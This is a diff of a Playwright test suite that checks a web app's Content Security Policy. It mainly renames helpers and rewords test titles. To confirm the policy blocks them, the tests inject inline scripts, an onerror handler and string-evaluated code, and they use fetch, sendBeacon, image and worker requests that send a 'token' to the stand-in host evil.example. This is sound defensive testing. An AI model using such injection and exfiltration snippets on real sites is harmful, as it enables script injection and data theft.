@@ -1,30 +1,32 @@
 import type { Page } from "@playwright/test";
-import { expect, test } from "./fixtures/headwater";
+import { expect, test } from "./fixtures/test";
 
-const BREACH = /Content.Security.Policy/i;
+const VIOLATION = /Content.Security.Policy/i;
 
-/** The breaches that `act` brings about in the page, as directives, and nothing else. */
-async function breaches(page: Page, act: () => void | Promise<void>): Promise<string[]> {
+/** Runs `act` in the page and returns the directives that it violates. */
+async function collectViolations(page: Page, act: () => void | Promise<void>): Promise<string[]> {
   await page.evaluate(() => {
-    const heard: string[] = [];
-    Object.assign(window, { heard });
-    document.addEventListener("securitypolicyviolation", (event) => heard.push(event.effectiveDirective));
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    document.addEventListener("securitypolicyviolation", (event) =>
+      violations.push(event.effectiveDirective),
+    );
   });
   await page.evaluate(act);
   await expect
-    .poll(() => page.evaluate(() => (window as unknown as { heard: string[] }).heard.length))
+    .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations.length))
     .toBeGreaterThan(0);
-  return page.evaluate(() => (window as unknown as { heard: string[] }).heard);
+  return page.evaluate(() => (window as unknown as { violations: string[] }).violations);
 }
 
-test.describe("what an injected element wants to do is blocked", () => {
-  test.beforeEach(async ({ workbench, pageProblems }) => {
-    pageProblems.allow(BREACH);
+test.describe("the policy blocks injected elements", () => {
+  test.beforeEach(async ({ workbench, pageErrors }) => {
+    pageErrors.allow(VIOLATION);
     await workbench.open();
   });
 
   test("an inline script does not run", async ({ page }) => {
-    const directives = await breaches(page, () => {
+    const directives = await collectViolations(page, () => {
       const script = document.createElement("script");
       script.textContent = "window.injected = true";
       document.body.append(script);
@@ -34,25 +36,25 @@ test.describe("what an injected element wants to do is blocked", () => {
   });
 
   test("an event handler in an attribute does not run", async ({ page }) => {
-    const directives = await breaches(page, () => {
-      const place = document.createElement("div");
-      place.innerHTML = '<img src="data:," onerror="window.injected = true">';
-      document.body.append(place);
+    const directives = await collectViolations(page, () => {
+      const container = document.createElement("div");
+      container.innerHTML = '<img src="data:," onerror="window.injected = true">';
+      document.body.append(container);
     });
     expect(directives).toContain("script-src-attr");
     expect(await page.evaluate(() => "injected" in window)).toBe(false);
   });
 
-  test("text is not run as a program", async ({ page }) => {
-    const directives = await breaches(page, () => {
+  test("a string is not evaluated as code", async ({ page }) => {
+    const directives = await collectViolations(page, () => {
       setTimeout("window.injected = true");
     });
     expect(directives).toContain("script-src");
     expect(await page.evaluate(() => "injected" in window)).toBe(false);
   });
 
-  test("a script of another site is not loaded", async ({ page }) => {
-    const directives = await breaches(page, () => {
+  test("a script from another site is not loaded", async ({ page }) => {
+    const directives = await collectViolations(page, () => {
       const script = document.createElement("script");
       script.src = "https://evil.example/steal.js";
       document.body.append(script);
@@ -61,7 +63,7 @@ test.describe("what an injected element wants to do is blocked", () => {
   });
 
   test("an inline style does not apply", async ({ page }) => {
-    const directives = await breaches(page, () => {
+    const directives = await collectViolations(page, () => {
       const style = document.createElement("style");
       style.textContent = "body { outline: 7px solid red }";
       document.head.append(style);
@@ -70,26 +72,27 @@ test.describe("what an injected element wants to do is blocked", () => {
     expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe("7px");
   });
 
-  test("nothing is sent to another host", async ({ page }) => {
-    const directives = await breaches(page, async () => {
+  test("fetch and sendBeacon cannot reach another host", async ({ page }) => {
+    const directives = await collectViolations(page, async () => {
       await fetch("https://evil.example/?token=1", { mode: "no-cors" }).catch(() => undefined);
       navigator.sendBeacon("https://evil.example/", "token");
     });
     expect(directives).toContain("connect-src");
   });
 
-  test("an image does not carry anything to another host", async ({ page }) => {
-    const directives = await breaches(page, () => {
+  test("an image request cannot carry data to another host", async ({ page }) => {
+    const directives = await collectViolations(page, () => {
       new Image().src = "https://evil.example/?token=1";
     });
     expect(directives).toContain("img-src");
   });
 
-  test("a frame, a base address and a form that leads away are refused", async ({ page }) => {
-    const directives = await breaches(page, () => {
-      const place = document.createElement("div");
-      place.innerHTML = '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">';
-      document.body.append(place);
+  test("a frame, a base URL and a form that lead to another host are blocked", async ({ page }) => {
+    const directives = await collectViolations(page, () => {
+      const container = document.createElement("div");
+      container.innerHTML =
+        '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">';
+      document.body.append(container);
       const form = document.createElement("form");
       form.action = "https://evil.example/";
       document.body.append(form);
@@ -101,28 +104,28 @@ test.describe("what an injected element wants to do is blocked", () => {
   });
 });
 
-test("a worker of the page reaches no other host either", async ({ page, workbench, pageProblems }) => {
-  pageProblems.allow(BREACH);
+test("a worker cannot reach another host", async ({ page, workbench, pageErrors }) => {
+  pageErrors.allow(VIOLATION);
   await workbench.open();
   await expect.poll(() => page.workers().length).toBeGreaterThan(0);
   const directive = await page.workers()[0]?.evaluate(async () => {
-    const breach = new Promise<string>((resolve) => {
+    const violation = new Promise<string>((resolve) => {
       self.addEventListener("securitypolicyviolation", (event) =>
         resolve((event as SecurityPolicyViolationEvent).effectiveDirective),
       );
     });
     await fetch("https://evil.example/?token=1", { mode: "no-cors" }).catch(() => undefined);
-    return breach;
+    return violation;
   });
   expect(directive).toBe("connect-src");
 });
 
-test("no page may be framed, and each has a policy without exceptions", async ({ page, site }) => {
+test("no page can be framed, and every page has a policy without exceptions", async ({ page, site }) => {
   for (const path of ["/", "/help/", "/setup/", "/nowhere"]) {
-    const answer = await page.request.get(site.url + path);
-    expect(answer.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
-    expect(answer.headers()["x-frame-options"]).toBe("DENY");
-    const html = await answer.text();
+    const response = await page.request.get(site.url + path);
+    expect(response.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
+    expect(response.headers()["x-frame-options"]).toBe("DENY");
+    const html = await response.text();
     const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
     expect(policy, path).toContain("default-src 'none'; script-src 'self' 'sha256-");
     expect(policy).not.toMatch(/unsafe|blob:|\s\*[\s;]/);
@@ -130,7 +133,7 @@ test("no page may be framed, and each has a policy without exceptions", async ({
   }
 });
 
-test("everything that a page loads comes from the site itself", async ({ page, workbench, site }) => {
+test("a page loads everything from its own site", async ({ page, workbench, site }) => {
   const hosts = new Set<string>();
   page.on("request", (request) => {
     if (!request.url().startsWith("data:")) hosts.add(new URL(request.url()).origin);
@@ -140,7 +143,7 @@ test("everything that a page loads comes from the site itself", async ({ page, w
   expect([...hosts]).toEqual([site.url]);
 });
 
-test("the editor has its colours, and shows what is wrong, without a style of its own in the page", async ({
+test("the editor is styled and marks errors without style elements in the page", async ({
   page,
   workbench,
 }) => {
